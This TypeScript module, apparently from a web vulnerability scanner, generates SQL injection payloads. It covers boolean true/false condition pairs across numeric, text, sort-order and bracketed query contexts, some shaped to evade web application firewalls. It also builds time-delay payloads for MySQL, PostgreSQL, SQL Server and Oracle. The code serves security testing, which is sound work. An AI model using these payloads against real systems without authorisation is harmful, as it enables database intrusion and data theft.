import type { Scan, Tried } from '../../rule.ts';
import { byDepth } from '../execution/likely.ts';
import type { PairForm } from './pairs.ts';

/** Conditions and pauses as databases read them, for each place in a query where a value may stand. None changes anything. */

const sent = (value: string) => ({ value });
type Write = (condition: string) => string;

// Firewalls look for numbers that equal themselves: what holds and what does not have to look the same to them.
export const difference = (truth: boolean, a: number, b: number, equals = '='): string =>
  `${a + b}-${truth ? b : b + 7}${equals}${a}`;

/** A form whose condition works out a difference; as nonsense, the comparison has no right side. */
const numbers = (where: string, kind: PairForm['kind'], write: Write): PairForm => ({
  where,
  kind,
  write: (truth, a, b) => sent(write(difference(truth, a, b))),
  broken: (a) => sent(write(`${a}==)=${a}(`)),
});
const texts = (where: string, kind: PairForm['kind'], quote: string, write: Write): PairForm => ({
  where,
  kind,
  write: (truth, a, b) => sent(write(`${difference(truth, a, b)} and ${quote}z${quote}=${quote}z`)),
  broken: (a) => sent(write(`${quote}${a}${quote}=)=(${quote}${a}`)),
  // Expressions over XML compare texts in the same way, but select nothing.
  sure: (a) => sent(write(`(select ${a})=${a} and ${quote}z${quote}=${quote}z`)),
});

const isNumber = (value: string) => /^-?\d{1,12}$/.test(value);
const sortName = /sort|order|col(umn)?|^by$|dir(ection)?$/i;
const whichRows = (condition: string, yes: string, no: string) =>
  `(case when ${condition} then ${yes} else ${no} end)`;

/** Forms in which a condition that holds leaves the answer as it is. */
export function andForms(tried: Tried, scan: Scan): PairForm[] {
  const { value, name } = tried.point;
  const forms: PairForm[] = [];
  // A list of numbers ends with one.
  if (isNumber(value) || /^-?\d{1,12}(,\s?-?\d{1,12}){1,40}$/.test(value)) {
    // As a difference it fits between any brackets; a page that only calculates knows no `case`.
    forms.push(numbers('a number', 'and', (condition) => `${value}-${whichRows(condition, '0', '1')}`));
    if (scan.depth !== 'few')
      forms.push(numbers('a number', 'and', (condition) => `${value} and ${condition}`));
    // Filters take out spaces and words; where a comparison is a number, neither is needed.
    if (scan.depth !== 'few')
      forms.push(numbers('a number', 'and', (condition) => `${value}-1+(${condition})`));
  }
  // One more column to sort by changes nothing, after a name, a position or a direction; what does not hold fails.
  if (sortName.test(name) && /^\w+$/.test(value))
    for (const failing of ['abs(-9223372036854775807-1)', '(select 1 union select 2)'])
      forms.push(
        numbers('what is sorted by', 'and', (condition) => `${value},${whichRows(condition, '1', failing)}`),
      );
  if (/^\w+$/.test(value) && !isNumber(value) && (sortName.test(name) || scan.depth === 'many'))
    forms.push(numbers('the name of a column', 'and', (condition) => whichRows(condition, value, 'null')));
  const inText = [
    numbers('a text', 'and', (condition) => `${value}'||${whichRows(condition, "''", "'q'")}||'`),
    texts('a text', 'and', "'", (condition) => `${value}' and ${condition}`),
  ];
  // What is written shows only whether it could be: what does not hold is more than the database can work out.
  if (tried.point.request.method !== 'GET')
    inText.push(
      numbers(
        'a text',
        'and',
        (condition) => `${value}'||${whichRows(condition, "''", 'abs(-9223372036854775807-1)')}||'`,
      ),
    );
  const more = [
    texts('a pattern', 'and', "'", (condition) => `${value}%' and ${condition}' and '%'='`),
    texts('a text in brackets', 'and', "'", (condition) => `${value}') and (${condition}`),
    numbers('a text at the end', 'and', (condition) => `${value}' and ${condition} -- `),
    numbers('a text', 'and', (condition) => `${value}'+${whichRows(condition, "''", "'q'")}+'`),
    texts('a text in quotation marks', 'and', '"', (condition) => `${value}" and ${condition}`),
  ];
  const rare = [
    numbers('a text in brackets at the end', 'and', (condition) => `${value}') and ${condition} -- `),
    numbers('a text in two brackets at the end', 'and', (condition) => `${value}')) and ${condition} -- `),
    numbers('a text at the end', 'and', (condition) => `${value}'/**/and/**/${condition}#`),
    texts('a pattern in brackets', 'and', "'", (condition) => `${value}%') and (${condition}`),
    numbers('a number in brackets', 'and', (condition) => `${value}) and (${condition}`),
  ];
  return [...forms, ...inText, ...byDepth(scan, [], more, [...more, ...rare])];
}

/** Forms in which a condition that holds brings everything: for values that find nothing. Only where nothing is written. */
export function orForms(tried: Tried, scan: Scan): PairForm[] {
  const { value } = tried.point;
  const forms = [
    texts('a text', 'or', "'", (condition) => `${value}' or ${condition}`),
    numbers('a text at the end', 'or', (condition) => `${value}' or ${condition} -- `),
    texts('a pattern', 'or', "'", (condition) => `${value}' or ${condition}' or 'x' like 'y`),
  ];
  const more = [
    texts('a text in brackets', 'or', "'", (condition) => `${value}') or (${condition}`),
    numbers('a text at the end', 'or', (condition) => `${value}' or ${condition}#`),
    texts('a text in quotation marks', 'or', '"', (condition) => `${value}" or ${condition}`),
    ...(isNumber(value) ? [numbers('a number', 'or', (condition) => `${value} or ${condition}`)] : []),
  ];
  return byDepth(scan, [], forms, [...forms, ...more]);
}

type PauseForm = { database: string; write: (seconds: number) => string };

export function pauseForms(tried: Tried, scan: Scan): PauseForm[] {
  const { value } = tried.point;
  const mysql = (s: number) => `(select 1 from (select sleep(${s}))z)`;
  const postgres = (s: number) => `(select count(*) from pg_sleep(${s}))`;
  const wait = (s: number) => `waitfor delay '0:0:${s}'`;
  const text: PauseForm[] = [
    { database: 'MySQL', write: (s) => `${value}'+${mysql(s)}+'` },
    { database: 'PostgreSQL', write: (s) => `${value}'||${postgres(s)}||'` },
    { database: 'SQL Server', write: (s) => `${value}';${wait(s)}-- ` },
  ];
  const number: PauseForm[] = isNumber(value)
    ? [
        { database: 'MySQL', write: (s) => `${value}-${mysql(s)}` },
        { database: 'PostgreSQL', write: (s) => `${value}-${postgres(s)}` },
        { database: 'SQL Server', write: (s) => `${value};${wait(s)}-- ` },
      ]
    : [];
  const rare: PauseForm[] = [
    { database: 'Oracle', write: (s) => `${value}'||dbms_pipe.receive_message('z',${s})||'` },
    { database: 'MySQL', write: (s) => `${value}"+${mysql(s)}+"` },
    { database: 'PostgreSQL', write: (s) => `${value}');select pg_sleep(${s})-- ` },
    { database: 'SQL Server', write: (s) => `${value}');${wait(s)}-- ` },
    // in place of a column
    { database: 'MySQL', write: (s) => mysql(s) },
    { database: 'PostgreSQL', write: (s) => postgres(s) },
  ];
  return byDepth(scan, [], [...text, ...number], [...text, ...number, ...rare]);
}
